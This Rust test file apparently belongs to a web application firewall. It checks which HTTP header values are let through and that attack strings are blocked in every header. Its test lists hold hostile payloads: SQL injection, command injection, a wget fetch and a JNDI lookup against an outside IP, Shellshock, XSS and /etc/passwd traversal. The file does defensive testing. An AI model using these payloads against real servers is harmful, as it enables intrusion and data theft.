//! Values that are passed over, values that are judged, and what of the judged ones is refused.

use std::sync::Arc;

use waf_shared::catalog::LeafSet;

use super::{Kind, is_plain};
use crate::Engine;
use crate::bounds::Bounds;
use crate::budget::Budget;
use crate::inspection::{Inspection, OnHit};

fn passes_over(name: &str, value: &str) -> bool {
    match Kind::of(name.as_bytes()) {
        Kind::Structured(grammar) | Kind::Recurring(grammar) => is_plain(grammar, value.as_bytes()),
        Kind::Cookie | Kind::Free => false,
    }
}

#[test]
fn what_browsers_send_is_plain() {
    for (name, value) in [
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
        ("Accept", "image/webp,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
        ("Accept", "application/json; charset=utf-8"),
        ("Accept-Encoding", "gzip;q=1.0, deflate;q=0.6, identity;q=0.3"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Accept-Language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,zh-Hant-TW;q=0.5,*;q=0.1"),
        ("Sec-CH-UA-Mobile", "?0"),
        ("Sec-CH-UA-Platform", "\"Chrome OS\""),
        ("Sec-CH-UA-Platform-Version", "\"15.0.0\""),
        ("Sec-Fetch-Site", "same-origin"),
        ("If-None-Match", "W/\"33a64df5-1f\", \"0f\""),
        ("If-Modified-Since", "Sun, 06 Nov 1994 08:49:37 GMT"),
        ("If-Range", "\"5e1f\""),
        ("Range", "bytes=0-499, -500"),
        ("Priority", "u=1, i"),
        ("Cache-Control", "no-cache, max-age=0"),
        ("Pragma", "no-cache"),
        ("Connection", "keep-alive, Upgrade"),
        ("host", "[2001:db8::1]:8080"),
        ("host", "shop.example:443"),
        ("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"),
    ] {
        assert!(passes_over(name, value), "{name}: {value}");
    }
}

#[test]
fn everything_else_is_judged() {
    for (name, value) in [
        ("User-Agent", "Mozilla/5.0"),
        ("X-Api-Version", "1"),
        ("Sec-Foo", "1"),
        ("Sec-Fetch-Foo", "cors"),
        ("Sec-Fetch-Mode", "no cors"),
        ("Sec-Fetch-Mode", "a;id"),
        ("Sec-CH-UA", "\"Chromium\";v=\"126\""),
        ("Sec-CH-UA-Platform", "\"drop table users\""),
        ("Sec-CH-UA-Platform", "\"../etc/passwd\""),
        ("Accept", "../../../etc/passwd"),
        ("Accept", "etc/passwd"),
        ("Accept", "text/html;id"),
        ("Accept", "text/plain /etc/passwd"),
        ("Accept-Encoding", "gzip;id"),
        ("Accept-Encoding", "gzip, whoami"),
        ("Accept-Language", "en;ls=1"),
        ("Accept-Language", "en union select"),
        ("Accept-Language", "averylongword"),
        ("Content-Type", "multipart/form-data; boundary=x"),
        ("Content-Type", "%{(#_='multipart/form-data')}"),
        ("If-None-Match", "\"1' or '1'='1\""),
        ("If-None-Match", "\"PHNjcmlwdD4\""),
        ("If-None-Match", "\"a--\""),
        ("If-Modified-Since", "Sun, 06 Nov 1994 08:49:37 GMT;id"),
        ("If-Modified-Since", "Sun, 06 Now 1994 08:49:37 GMT"),
        ("If-Modified-Since", "Sun; 06 Nov 1994 08:49:37 GMT"),
        ("Range", "bytes=1-2 or 1"),
        ("Priority", "u=1, i, id"),
        ("Pragma", "no-cache; id"),
        ("Pragma", "whoami"),
        ("Cache-Control", "max-age=1-1"),
        ("Connection", "close, /etc/passwd"),
        ("Host", "shop.example/..;/"),
        ("Host", "[::1"),
        ("Origin", "https://shop.example"),
    ] {
        assert!(!passes_over(name, value), "{name}: {value}");
    }
}

fn blocks(engine: &Arc<Engine>, name: &str, value: &str) -> bool {
    let leaves = LeafSet::defaults();
    let mut inspection =
        Inspection::new(Arc::clone(engine), leaves, Bounds::DEFAULT, OnHit::GoOn, Budget::UNLIMITED);
    // Twice: what was found once is found again.
    inspection.header(name.as_bytes(), value.as_bytes());
    inspection.reset(leaves, Bounds::DEFAULT, OnHit::GoOn, Budget::UNLIMITED);
    inspection.header(name.as_bytes(), value.as_bytes());
    inspection.verdict().blocks()
}

/// Headers with a grammar of their own, and one without.
const HEADERS: &[&str] = &[
    "Accept",
    "Accept-Charset",
    "Accept-Encoding",
    "Accept-Language",
    "Cache-Control",
    "Connection",
    "Content-Type",
    "Date",
    "DNT",
    "Expect",
    "If-Match",
    "If-Modified-Since",
    "If-None-Match",
    "If-Range",
    "Keep-Alive",
    "Origin",
    "Pragma",
    "Priority",
    "Range",
    "Save-Data",
    "Sec-CH-UA",
    "Sec-CH-UA-Model",
    "Sec-Fetch-Dest",
    "Sec-Foo",
    "Sec-WebSocket-Key",
    "Sec-WebSocket-Protocol",
    "TE",
    "Trailer",
    "Upgrade",
    "Upgrade-Insecure-Requests",
    "X-Whatever",
];

#[test]
fn attacks_are_found_in_every_header() {
    let engine = Arc::new(crate::rules::engine());
    for name in HEADERS {
        for attack in [
            "1 union select password from users",
            "1 or sleep(5)",
            "1 and 1=(select 1)",
            "1;cat /etc/passwd",
            "en;q=0.8;wget http://203.0.113.7/a",
            "text/html,/etc/passwd",
            "\"1' or '1'='1\"",
            "W/\"x\" union select 1,2 from users",
            "file:///etc/passwd",
            "() { :;}; /bin/id",
            "https://a.example/?q=<script>alert(1)</script>",
            "\"Chromium\";v=\"1\", \"${jndi:ldap://203.0.113.7/a}\"",
        ] {
            assert!(blocks(&engine, name, attack), "{name}: {attack}");
        }
    }
}

#[test]
fn what_clients_send_passes() {
    let engine = Arc::new(crate::rules::engine());
    for (name, value) in [
        ("Sec-CH-UA", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\""),
        ("Sec-CH-UA", "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"98\", \"Microsoft Edge\";v=\"98\""),
        ("Sec-CH-UA", "\"(Not(A:Brand\";v=\"8\", \"Brave\";v=\"99\""),
        ("Sec-CH-UA", "\";Not=A?Brand\";v=\"24\", \"Opera GX\";v=\"99\""),
        ("Sec-CH-UA-Full-Version-List", "\"Not.A/Brand\";v=\"8.0.0.0\", \"Chromium\";v=\"114.0.5735.90\""),
        ("Sec-CH-UA-Model", "\"SM-G991B\""),
        ("Sec-CH-Prefers-Color-Scheme", "dark"),
        ("Sec-CH-UA-Form-Factors", "\"Desktop\", \"XR\""),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits; server_max_window_bits=15"),
        ("Sec-WebSocket-Protocol", "graphql-transport-ws, graphql-ws"),
        ("Accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"),
        (
            "Accept",
            "application/activity+json, application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
        ),
        ("Accept", "application/vnd.github.v3+json; param=1, */*"),
        ("Accept-Charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7"),
        ("Accept-Language", "en_US.UTF-8, de-1996;q=0.5"),
        ("Cache-Control", "no-cache=\"set-cookie\", max-age=0"),
        ("If-None-Match", "W/\"2f-Jzx9/3QmBzqGkQ+5Y3cVZkJw\""),
        ("If-None-Match", "\"686897696a7c876b7e-gzip\", \"r2p56hq7rgzjs\""),
        ("If-Modified-Since", "Sunday, 06-Nov-94 08:49:37 GMT"),
        ("If-Modified-Since", "Sun Nov  6 08:49:37 1994"),
        ("Keep-Alive", "timeout=5, max=1000"),
        ("Origin", "https://shop.example:8443"),
        ("Origin", "chrome-extension://aapbdbdomjkkjkaonfhkkikfgjllcleb"),
        ("Origin", "null"),
        ("Priority", "u=4, i=?0, x-private=1"),
        ("TE", "trailers, deflate;q=0.5"),
        ("Upgrade", "h2c, HTTP/2.0, IRC/6.9"),
        ("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("Content-Type", "application/soap+xml; charset=\"utf-8\"; action=\"urn:example:get\""),
    ] {
        assert!(!blocks(&engine, name, value), "{name}: {value}");
    }
}
